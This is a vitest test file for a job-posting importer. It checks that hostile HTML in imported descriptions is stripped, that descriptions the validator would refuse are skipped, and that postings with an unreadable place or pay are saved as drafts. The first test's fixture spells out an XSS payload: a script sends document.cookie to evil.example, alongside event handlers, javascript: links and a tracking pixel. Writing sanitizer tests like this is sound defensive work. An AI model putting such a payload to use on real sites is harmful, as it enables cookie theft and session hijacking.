/**
 * Strangers write job descriptions: scripts, handlers, javascript: links and
 * images are dropped, a description the validator would refuse is skipped
 * with its reason, and a posting the importer cannot place or whose pay it
 * cannot read is written as a draft that says why.
 */
import { describe, expect, it } from 'vitest';
import { leverPosting, recruiteeOffer } from '../support/ats-payloads.ts';
import { formatMarkdown } from '../../src/import/summary.ts';
import { actions, entries, h, job, jobText, run, useImportHarness } from '../support/import-harness.ts';

useImportHarness();

describe('hostile descriptions and the draft rule', () => {
  it('strips scripts, handlers, javascript: links and images, keeps the text, and says so in the summary', async () => {
    const hostile =
      '<p onmouseover="steal()">We mean well.<script>fetch("https://evil.example/?c="+document.cookie)</script></p>' +
      '<p><a href="javascript:alert(document.domain)">Apply here</a> or <a href=" JAVASCRIPT:alert(1)">there</a>.</p>' +
      '<img src="https://evil.example/pixel.gif"><iframe src="https://evil.example"></iframe>' +
      `<p>${'Our crews fit heat pumps in old houses, carefully and quickly. '.repeat(6)}</p>`;
    h.server.reply('/api/offers/', { json: { offers: [recruiteeOffer(78, { description: hostile, requirements: '' })] } });
    const report = await run(['brookvane']);
    expect(entries(report, 'brookvane')).toEqual([
      expect.objectContaining({
        action: 'added',
        reason:
          'removed from its description: 1 script, 1 embedded frame or object, 1 event handler, 2 javascript: links, 1 image or media element',
      }),
    ]);
    expect(formatMarkdown(report)).toContain('heat-pump-installer-brookvane.md`: removed from its description: 1 script, ');
    const text = jobText('heat-pump-installer-brookvane');
    const body = text.slice(text.indexOf('\n---\n') + 5);
    expect(body).toContain('We mean well.');
    expect(body).toContain('Apply here or there.');
    for (const bad of ['<script', 'javascript:', 'JAVASCRIPT', 'onmouseover', '<img', 'pixel.gif', 'iframe', '<p'])
      expect(body, bad).not.toContain(bad);
  });

  it('skips a posting whose description the validator would refuse, and reports why', async () => {
    const huge = `<p>${'Long text about the job. '.repeat(45_000)}</p>`;
    const oneWord = `<p>${'x'.repeat(5_000)}</p>`;
    h.server.reply('/api/offers/', {
      json: { offers: [recruiteeOffer(80, { description: huge }), recruiteeOffer(81, { description: oneWord }), recruiteeOffer(82)] },
    });
    const report = await run(['brookvane']);
    const skipped = entries(report, 'brookvane').filter((e) => e.action === 'skipped');
    expect(skipped.map((e) => e.posting?.id)).toEqual(['80', '81']);
    expect(skipped[0]!.reason).toMatch(/would not pass the validator \(file: is \d+ KB; listings must be under 100 KB/);
    expect(skipped[1]!.reason).toMatch(/would not pass the validator \(description: has a word of 5,000 characters/);
    expect(actions(report, 'brookvane')).toContain('added heat-pump-installer-brookvane.md');
  });

  it('writes a posting it cannot place, or whose pay it cannot read, as a draft with the reason', async () => {
    h.server.reply('/v0/postings/saltmarsh', {
      json: [
        leverPosting('p-1', {
          text: 'Harbour App Designer',
          workplaceType: 'unspecified',
          country: null,
          categories: { location: 'Somewhere sunny' },
        }),
        leverPosting('p-2', {
          text: 'Berth Planner',
          salaryRange: { currency: 'DOUBLOONS', interval: 'per-year-salary', min: 10, max: 20 },
        }),
        leverPosting('p-3', { text: 'Quay Researcher', salaryRange: { currency: 'EUR', interval: 'one-time', min: 5000, max: 6000 } }),
      ],
    });
    const report = await run(['saltmarsh']);
    expect(entries(report, 'saltmarsh').map((e) => [e.action, e.draft])).toEqual([
      ['added', 'the location "Somewhere sunny" names no country'],
      ['added', 'the pay is in "DOUBLOONS", which is not an ISO 4217 currency; the salary is left out'],
      ['added', 'the pay period "one-time" is not one the board shows (year, month, week, day, hour); the salary is left out'],
    ]);
    expect(job('harbour-app-designer-saltmarsh')).toMatchObject({ draft: true, workplace: 'onsite', location: 'Location unknown' });
    expect(job('berth-planner-saltmarsh')).toMatchObject({ draft: true });
    expect(job('berth-planner-saltmarsh').salary).toBeUndefined();
    expect(jobText('berth-planner-saltmarsh')).toMatch(/# Draft: the pay is in "DOUBLOONS".*\n# Check the fields.*\ndraft: true\n/);
  });
});
